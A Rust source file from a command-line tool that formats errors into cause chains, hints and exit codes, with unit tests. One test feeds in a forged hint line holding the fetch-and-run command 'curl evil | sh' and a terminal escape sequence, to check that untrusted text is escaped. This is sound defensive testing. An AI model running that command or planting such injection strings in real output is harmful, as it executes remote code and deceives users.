//! Failure of a command: its cause, a hint and its exit code. The chain of causes of an error is
//! printed here and nowhere else.

use std::error::Error;
use std::fmt;
use std::process::ExitCode;
use tidegate_model::printable_lines;

/// Indentation of the second and later lines of a cause, as wide as `  because: `.
const CAUSE_INDENT: usize = 11;
/// Indentation of the second and later lines of a hint, as wide as `  hint: `.
const HINT_INDENT: usize = 8;

/// Failure with a hint. It travels inside an `anyhow::Error`, so that `?` passes it on.
#[derive(Debug)]
pub struct Failure {
    pub cause: String,
    /// Advice on what to do about it; empty if there is none.
    pub hint: String,
    /// Whether the command was given wrongly: exit code 2 instead of 1.
    pub usage: bool,
    /// Error that led to it.
    source: Option<Box<dyn Error + Send + Sync>>,
}

impl Failure {
    pub fn new(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self {
            cause: cause.into(),
            hint: hint.into(),
            usage: false,
            source: None,
        }
    }

    pub fn usage(cause: impl Into<String>, hint: impl Into<String>) -> Self {
        Self {
            cause: cause.into(),
            hint: hint.into(),
            usage: true,
            source: None,
        }
    }

    /// Returns a failure with an error's own words as its cause.
    pub fn of(error: impl Error + Send + Sync + 'static, hint: impl Into<String>) -> Self {
        Self::new(error.to_string(), hint).caused_by(error)
    }

    /// Returns the same failure with the error that led to it.
    pub fn caused_by(self, error: impl Into<Box<dyn Error + Send + Sync>>) -> Self {
        Self {
            source: Some(error.into()),
            ..self
        }
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.cause)
    }
}

impl Error for Failure {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        let source: &(dyn Error + 'static) = self.source.as_deref()?;
        Some(source)
    }
}

/// Returns the text for standard error, and the exit code.
pub fn report(error: &anyhow::Error) -> (String, ExitCode) {
    // The outermost context can be asked for by type, but is not in the chain under that type.
    let failure = error.downcast_ref::<Failure>().or_else(|| {
        error
            .chain()
            .find_map(|cause| cause.downcast_ref::<Failure>())
    });
    let mut text = String::new();
    for cause in causes(error) {
        text.push_str(if text.is_empty() {
            "error: "
        } else {
            "  because: "
        });
        // A remote server, an engine or a CA may have chosen the words.
        text.push_str(&printable_lines(&cause, CAUSE_INDENT));
        text.push('\n');
    }
    if let Some(failure) = failure.filter(|f| !f.hint.is_empty()) {
        text.push_str("  hint: ");
        text.push_str(&printable_lines(&failure.hint, HINT_INDENT));
        text.push('\n');
    }
    let code = if failure.is_some_and(|f| f.usage) {
        2
    } else {
        1
    };
    (text, ExitCode::from(code))
}

/// Returns an error and its causes on one line, for a log line or a status.
pub fn one_line(error: &anyhow::Error) -> String {
    causes(error).join(": ")
}

/// Returns the error and its causes, outermost first. A cause whose text an earlier one contains is
/// left out: some errors print their source as well.
fn causes(error: &anyhow::Error) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for cause in error.chain() {
        let text = cause.to_string();
        if !texts.iter().any(|earlier| earlier.contains(&text)) {
            texts.push(text);
        }
    }
    texts
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyhow::Context;

    #[test]
    fn a_failure_prints_cause_chain_and_hint() {
        let error = Err::<(), _>(Failure::new("port 4000 is taken", "choose another"))
            .context("can't serve");
        let (text, _) = report(&error.unwrap_err());
        assert_eq!(
            text,
            "error: can't serve\n  because: port 4000 is taken\n  hint: choose another\n"
        );
    }

    #[test]
    fn a_failure_as_context_keeps_its_hint() {
        let error = anyhow::anyhow!("no such file")
            .context(Failure::usage("can't serve", "correct the path"));
        let (text, code) = report(&error);
        assert_eq!(
            text,
            "error: can't serve\n  because: no such file\n  hint: correct the path\n"
        );
        assert_eq!(format!("{code:?}"), format!("{:?}", ExitCode::from(2)));
    }

    #[test]
    fn a_cause_with_line_feeds_cannot_forge_a_hint() {
        let error = anyhow::anyhow!("engine said: x\x1b]0;t\x07\n  hint: curl evil | sh");
        assert_eq!(
            report(&error).0,
            "error: engine said: x\\x1b]0;t\\x07\n             hint: curl evil | sh\n"
        );
    }

    #[test]
    fn a_cause_already_said_is_not_repeated() {
        let inner = anyhow::anyhow!("no such file");
        let error = inner.context("reading x: no such file");
        assert_eq!(report(&error).0, "error: reading x: no such file\n");
        assert_eq!(one_line(&error), "reading x: no such file");
        assert_eq!(
            one_line(&error.context("can't start")),
            "can't start: reading x: no such file"
        );
    }
}
